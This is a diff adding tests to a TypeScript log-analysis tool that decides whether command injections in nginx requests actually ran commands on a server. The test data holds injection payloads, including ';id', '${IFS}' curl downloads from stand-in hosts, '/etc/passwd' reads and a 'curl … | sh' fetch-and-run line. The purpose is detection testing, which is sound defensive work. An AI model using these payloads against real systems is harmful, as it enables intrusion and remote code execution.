@@ -22,11 +22,12 @@ const request = (query: string, status = 200) =>
 
 const SUBFOLDERS = { access: 'logs/nginx/access.log', audit: 'logs/audit/audit.log' };
 
-async function told(query: string, audit: string, status = 200) {
+async function told(query: string, audit: string, status = 200, headers = '') {
   const story = await investigateFiles({
     'logs/auth.log':
       'May  1 07:59:00 web1 CRON[9]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n',
-    [SUBFOLDERS.access]: request(query, status),
+    [SUBFOLDERS.access]:
+      headers === '' ? request(query, status) : request(query, status).replace('"-" "curl/8.5.0"', headers),
     [SUBFOLDERS.audit]: `${audit}\n`,
   });
   const led = story.findings.filter(({ title }) => title === 'Command run by a web request');
@@ -79,4 +80,63 @@ test('not what the server does anyway, nor what it fetches from itself', async (
   const inside = 'wget http://127.0.0.1/x.sh -O /tmp/y.sh';
   const probe = encodeURIComponent('127.0.0.1;wget http://127.0.0.1/z.sh');
   expect(await told(probe, ran(inside.split(' '), '/usr/bin/wget'))).toMatchObject({ verdict: 'attacked', led: [] });
+});
+
+test('a server that breaks on what it was made to run, or waits for it until it gives up', async () => {
+  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget'), 500)).toMatchObject(BREACHED);
+  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget', -300), 504)).toMatchObject(BREACHED);
+  expect(await told(query, ran(FETCH.split(' '), '/usr/bin/wget', -300), 200)).toMatchObject({ led: [] });
+});
+
+test('words of the request within the words of a shell, but not quoted there', async () => {
+  const short = encodeURIComponent('127.0.0.1;id');
+  const shell = (line: string) => ran(['sh', '-c', line], '/usr/bin/dash');
+  expect(await told(short, shell('ping -c 3 127.0.0.1;id'))).toMatchObject(BREACHED);
+  expect(await told(short, shell("ping -c 3 '127.0.0.1;id'"))).toMatchObject({ verdict: 'attacked', led: [] });
+});
+
+test('an address without a scheme, an account before the host, letters of either case', async () => {
+  const bare = encodeURIComponent('1;curl$'.concat('{IFS}198.51.100.66/x.sh'));
+  expect(await told(bare, ran(['curl', '198.51.100.66/x.sh'], '/usr/bin/curl'))).toMatchObject(BREACHED);
+  const account = encodeURIComponent('1;wget ftp://a:b@Files.Example.net/x.sh');
+  expect(await told(account, ran(['wget', 'ftp://a:b@files.example.net/x.sh'], '/usr/bin/wget'))).toMatchObject(
+    BREACHED,
+  );
+});
+
+test('of a host that many use, the same thing', async () => {
+  const probe = encodeURIComponent('1;wget https://raw.example.com/evil/x.sh');
+  const own = ran(['wget', 'https://raw.example.com/shop/build.tgz'], '/usr/bin/wget');
+  expect(await told(probe, own)).toMatchObject({ verdict: 'attacked', led: [] });
+  const named = encodeURIComponent('1;wget http://example.com/a');
+  expect(await told(named, ran(['wget', 'http://notexample.com/a'], '/usr/bin/wget'))).toMatchObject({ led: [] });
+});
+
+test('not where somebody says that he came from', async () => {
+  const timer = ran(['curl', '-s', 'https://www.shop.example/health'], '/usr/bin/curl');
+  const from = '"https://www.shop.example/health" "curl/8.5.0"';
+  expect(await told(encodeURIComponent('1;cat /etc/passwd'), timer, 200, from)).toMatchObject({ led: [] });
+});
+
+test('not a page that fetches what it is asked to show; what it then runs is another thing', async () => {
+  const url = encodeURIComponent('http://198.51.100.66/feed.txt?');
+  expect(await told(url, ran(['curl', '-s', 'http://198.51.100.66/feed.txt'], '/usr/bin/curl'))).toMatchObject({
+    led: [],
+  });
+  const runs = ran(['sh', '-c', 'curl -s http://198.51.100.66/feed.txt | sh'], '/usr/bin/dash');
+  expect(await told(url, runs)).toMatchObject(BREACHED);
+});
+
+test('a round that the log begins in the middle of is a habit; a loader that comes again is none', async () => {
+  const cat = ['cat', '/etc/passwd'];
+  const probe = encodeURIComponent('1;cat /etc/passwd');
+  const rounds = [1, 601, 1201, 1801].map((after) => ran(cat, '/usr/bin/cat', after)).join('\n');
+  expect(await told(probe, rounds)).toMatchObject({ verdict: 'attacked', led: [] });
+  const before = ran(['true', 'x'], '/usr/bin/true', -7200);
+  expect(await told(probe, `${before}\n${rounds}`)).toMatchObject(BREACHED);
+});
+
+test('commands beside it, be they thousands, hide none', async () => {
+  const others = Array.from({ length: 1500 }, (_, at) => ran(['stat', `/srv/f${at}`], '/usr/bin/stat', -50 + at / 15));
+  expect(await told(query, [...others, ran(FETCH.split(' '), '/usr/bin/wget', 20)].join('\n'))).toMatchObject(BREACHED);
 });
